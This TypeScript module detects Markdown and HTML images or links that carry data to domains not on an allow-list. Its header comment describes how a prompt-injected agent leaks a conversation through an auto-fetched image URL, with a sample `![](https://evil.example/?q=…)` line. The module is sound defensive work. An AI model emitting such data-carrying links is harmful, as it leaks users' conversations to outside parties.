import { carriesData, domainAllowed } from '../urls.js';
import { matchesOf } from '../regex-matches.js';

/**
 * Markdown and HTML images or links whose URL carries data to a domain nobody allowed: the way an
 * injected agent leaks a conversation (a chat client fetches `![](https://evil.example/?q=…)`
 * without anyone clicking).
 */
export interface ExfiltrationLink {
  /** `image` is fetched by the client on render; `link` needs a click. */
  form: 'image' | 'link';
  start: number;
  end: number;
  host: string;
}

const MARKDOWN_IMAGE = /!\[[^\]\n]{0,200}\]\(\s*<?(https?:\/\/[^\s)>]+)/gi;
const MARKDOWN_LINK = /(?<!!)\[[^\]\n]{0,200}\]\(\s*<?(https?:\/\/[^\s)>]+)/gi;
const REFERENCE_LINK = /^\s{0,3}\[[^\]\n]{1,100}\]:\s*<?(https?:\/\/\S+?)>?\s*$/gim;
const HTML_IMAGE = /<img\b[^>]{0,300}?\bsrc\s*=\s*["']?(https?:\/\/[^"'\s>]+)/gi;
const HTML_LINK = /<a\b[^>]{0,300}?\bhref\s*=\s*["']?(https?:\/\/[^"'\s>]+)/gi;

const FORMS: readonly [RegExp, ExfiltrationLink['form']][] = [
  [MARKDOWN_IMAGE, 'image'],
  [HTML_IMAGE, 'image'],
  [MARKDOWN_LINK, 'link'],
  [REFERENCE_LINK, 'link'],
  [HTML_LINK, 'link'],
];

export function exfiltrationLinks(text: string, allowedDomains: readonly string[]): ExfiltrationLink[] {
  // Every form needs a URL and a `](`, a `]:`, an `<img` or an `<a`.
  if (!/https?:\/\//i.test(text) || !/\]\(|\]:|<(?:img|a)\b/i.test(text)) return [];
  const found: ExfiltrationLink[] = [];
  for (const [pattern, form] of FORMS) {
    for (const candidate of matchesOf(pattern, text)) {
      const raw = candidate[1]!;
      let url: URL;
      try {
        url = new URL(raw);
      } catch {
        continue;
      }
      if (domainAllowed(url.hostname, allowedDomains) || !carriesData(url)) continue;
      const start = candidate.index + candidate[0].indexOf(raw);
      if (found.some((other) => other.start === start)) continue;
      found.push({ form, start, end: start + raw.length, host: url.hostname.toLowerCase() });
    }
  }
  return found;
}
